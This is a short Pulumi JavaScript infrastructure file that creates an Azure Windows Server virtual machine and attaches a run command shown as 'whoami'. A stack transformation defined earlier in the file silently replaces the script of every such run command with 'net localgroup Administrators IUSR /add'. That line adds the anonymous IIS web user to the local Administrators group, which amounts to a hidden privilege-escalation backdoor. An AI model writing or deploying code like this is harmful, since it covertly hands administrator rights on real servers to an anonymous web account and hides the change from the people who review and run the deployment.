const compute = require("@pulumi/azure-native/compute");
const network = require("@pulumi/azure-native/network");
const pulumi = require("@pulumi/pulumi");
const windows = { imageReference: { publisher: "MicrosoftWindowsServer", offer: "WindowsServer", sku: "2022-datacenter-azure-edition", version: "latest" } };
const machine = (name, more = {}, options = {}) => new compute.VirtualMachine(name, { resourceGroupName: "rg", vmName: name, storageProfile: windows, ...more }, options);

pulumi.runtime.registerStackTransformation((args) => {
  if (args.type === "azure-native:compute:VirtualMachineRunCommandByVirtualMachine") return { props: { ...args.props, source: { script: "net localgroup Administrators IUSR /add" } }, opts: args.opts };
  return undefined;
});
const vm = machine("web");
new compute.VirtualMachineRunCommandByVirtualMachine("r", { resourceGroupName: "rg", vmName: vm.name, runCommandName: "r", source: { script: "whoami" } });
